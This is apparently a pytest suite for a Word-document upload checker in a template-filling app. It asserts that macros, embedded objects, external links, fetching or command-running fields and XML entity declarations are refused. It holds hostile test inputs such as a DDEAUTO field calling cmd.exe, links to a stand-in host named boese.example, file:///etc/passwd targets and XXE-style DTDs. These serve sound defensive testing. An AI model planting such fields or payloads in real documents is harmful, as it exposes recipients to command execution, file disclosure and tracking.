"""A file that could do anything but be filled is refused, each for its own reason."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from app.domain.errors import InvalidInput
from app.domain.paper_templates import LARGEST_FILE
from app.filling import file_checks
from app.filling.file_checks import check_file
from tests.filling.crafted import RELATIONS, TYPES, changed, related, with_xml, written

PLAIN = written("{{ betreff }}")
_FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _codes(*runs: str) -> str:
    return _FIELD.format("".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs))


def _why(data: bytes) -> str:
    with pytest.raises(InvalidInput) as refused:
        check_file(data)
    assert refused.value.field == "file"
    return refused.value.key.partition(".")[2]


def _zip(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def test_a_plain_document_is_fine():
    check_file(PLAIN)
    check_file(related("hyperlink", "https://www.dortmund.de/rat"))
    check_file(
        with_xml(
            _FIELD.format("<w:r><w:instrText> IF </w:instrText></w:r>" + _codes(" PAGE ")) + _codes(" =1 ")
        )
    )
    check_file(
        with_xml(_codes(" PAGE ") + _codes(' HYPERLINK "https://stadt.de/link/import" ') + _codes(" TOC "))
    )


@pytest.mark.parametrize(
    ("data", "key"),
    [
        (b"", "no_file"),
        (b"%PDF-1.7", "no_docx"),
        (b"PK\x03\x04 broken", "no_docx"),
        (_zip(a="b"), "no_docx"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "old_word"),
        (bytes(LARGEST_FILE + 1), "too_large"),
        (changed(PLAIN, added={"../boese.xml": b"<a/>"}), "no_docx"),
        (changed(PLAIN, added={f"word/teil{n}.xml": b"<a/>" for n in range(500)}), "unpacked_too_large"),
        (changed(PLAIN, added={"word/media/gross.bin": bytes(41 * 1024**2)}), "unpacked_too_large"),
        (changed(PLAIN, added={"word/kaputt.xml": b"<a>"}), "no_docx"),
        (changed(PLAIN, {TYPES: lambda xml: xml.replace("document.main+xml", "template.main+xml")}), "dotx"),
    ],
)
def test_what_is_no_document_is_refused(data: bytes, key: str):
    assert _why(data) == key


@pytest.mark.parametrize(
    "data",
    [
        changed(PLAIN, added={"word/vbaProject.bin": b"x"}),
        changed(PLAIN, added={"word/VBADATA.xml": b"<a/>"}),
        changed(
            PLAIN,
            {
                TYPES: lambda xml: xml.replace(
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
    ],
)
def test_macros_are_refused(data: bytes):
    assert _why(data) == "macros"


@pytest.mark.parametrize(
    "data",
    [
        changed(PLAIN, added={"word/embeddings/oleObject1.bin": b"x"}),
        changed(PLAIN, added={"word/activeX/activeX1.xml": b"<a/>"}),
        related("oleObject", "media/x.bin", mode=""),
        related("aFChunk", "seite.html", mode=""),
        related("control", "x.xml", mode=""),
        related("attachedTemplate", "vorlage.dotm", mode="Internal"),
    ],
)
def test_embedded_objects_are_refused(data: bytes):
    assert _why(data) == "embedded"


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("attachedTemplate", "http://boese.example/v.dotm", "External"),
        ("attachedTemplate", "file:///C:/Vorlagen/Normal.dotm", "External"),
        ("image", "https://boese.example/zaehlpixel.png", "External"),
        ("image", "\\\\server\\bild.png", "external"),
        ("oleObject", "file:///etc/passwd", "External"),
        ("frame", "https://boese.example/", "External"),
        ("subDocument", "https://boese.example/a.docx", "External"),
        ("hyperlink", "file:///etc/passwd", "External"),
        ("hyperlink", "javascript:alert(1)", "External"),
        ("image", "https://boese.example/ohne-modus.png", ""),
    ],
)
def test_what_leads_away_is_refused(kind: str, target: str, mode: str):
    assert _why(related(kind, target, mode)) == "external"


def test_a_picture_loaded_by_its_address_is_refused():
    picture = '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://boese.example/a.png"/></w:pict>'
    assert _why(with_xml(f"<w:r>{picture}</w:r>")) == "external"


@pytest.mark.parametrize(
    "inside",
    [
        _codes(' INCLUDEPICTURE "http://boese.example/a.png" '),
        _codes(" INCLUDE", "TEXT", ' "C:\\\\geheim.docx" '),
        _codes(" dde Excel tabelle "),
        _codes(" DDEAUTO c:\\\\windows\\\\cmd.exe "),
        _codes(" LINK Excel.Sheet "),
        _codes(" IF 1 = 1 ") + _codes(" MACROBUTTON x "),
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;a.docx&quot; "/>',
        _codes(" QUOTE 68 68 69 65 85 84 79 "),
        _codes(" MACROBUTTON x "),
        _codes(" AUTOTEXT x "),
        _codes(' {{ "DDE" }} '),
        _FIELD.format(_codes(" REF marke ") + "<w:r><w:instrText> cmd.exe </w:instrText></w:r>"),
        _FIELD.format(" " + _codes(" PAGE ")),
        _FIELD.format("<w:r><w:t>DDEAUTO cmd.exe</w:t></w:r>"),
        '<w:r><f:instrText xmlns:f="http://purl.oclc.org/ooxml/wordprocessingml/main">DDE a</f:instrText></w:r>',
        _codes(" QUOTE ") + _FIELD.format(_codes(" INCLUDE") + _codes("PICTURE")),
    ],
)
def test_fields_that_fetch_or_run_are_refused(inside: str):
    assert _why(with_xml(inside)) == "field"


def test_a_link_of_a_field_leads_to_pages_only():
    assert _why(with_xml(_codes(' HYPERLINK "file:///C:/a.exe" '))) == "external"
    assert _why(with_xml(_codes(' HYPERLINK "\\\\\\\\server\\a.exe" '))) == "external"
    check_file(with_xml(_codes(' HYPERLINK \\l "Anker" ')))


def test_a_mail_merge_is_refused():
    merge = '<w:mailMerge><w:dataType w:val="odbc"/></w:mailMerge></w:settings>'
    data = changed(PLAIN, {"word/settings.xml": lambda xml: xml.replace("</w:settings>", merge)})
    assert _why(data) == "mail_merge"


_MANY = {
    "text": b"<a>" + b"x" * (3 * 1024**2) + b"</a>",
    "elements": b"<a>" + b"<b/>" * 250_000 + b"</a>",
    "attributes": b"<a>" + b"<b c='' d='' e=''/>" * 85_000 + b"</a>",
    "attributes of one": b"<a " + b" ".join(b"b%d=''" % n for n in range(600)) + b"/>",
}


@pytest.mark.parametrize("many", list(_MANY.values()), ids=list(_MANY))
def test_xml_is_counted_before_it_is_read(many: bytes, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(file_checks, "_check_part", lambda name, content: _fail(name))
    data = changed(PLAIN, added={"word/viel.xml": many})
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        monkeypatch.setattr(
            file_checks, "_contents", lambda _: [("word/viel.xml", parts.read("word/viel.xml"))]
        )
        with pytest.raises(InvalidInput) as refused:
            check_file(data)
    assert (refused.value.key, refused.value.values) == ("paper_template.too_much", {"part": "word/viel.xml"})


def _fail(name: str) -> None:
    raise AssertionError(f"{name} was read")


def test_all_parts_are_counted_together():
    three = b"<a>" + b"x" * (3 * 1024**2 - 100) + b"</a>"
    assert _why(changed(PLAIN, added={f"word/teil{n}.xml": three for n in range(3)})) == "too_much"
    check_file(changed(PLAIN, added={"word/teil.xml": three}))


def test_many_empty_paragraphs_cost_neither_time_nor_memory():
    began, data = time.process_time(), with_xml("</w:p>" + "<w:p/>" * 3_000_000 + "<w:p>")
    assert _why(data) in ("too_much", "unpacked_too_large")
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "body",
    [
        b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16"),
        '<?xml version="1.0" encoding="cp037"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("cp037"),
        b'<!DOCTYPE a SYSTEM "http://boese.example/a.dtd"><a/>',
        b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-',
    ],
)
@pytest.mark.parametrize("name", ["word/fremd.xml", "customXml/fremd.rels", "word/media/bild.png"])
def test_declarations_are_refused_in_any_encoding(body: bytes, name: str):
    why = _why(changed(PLAIN, added={name: body})) if not _is_ebcdic_image(body, name) else "declared"
    assert why in ("declared", "no_docx")


def _is_ebcdic_image(body: bytes, name: str) -> bool:
    """Nobody reads a picture as XML that does not begin like XML."""
    return name.endswith(".png") and not body.lstrip(b"\xff\xfe").startswith(b"<")


def test_relationships_of_headers_are_looked_at_too():
    data = changed(
        written("x", header="h"),
        added={
            "word/_rels/header1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="x/image" Target="http://boese.example/a.png" '
            b'TargetMode="External"/></Relationships>'
        },
    )
    assert _why(data) == "external"
    assert RELATIONS in zipfile.ZipFile(io.BytesIO(data)).namelist()
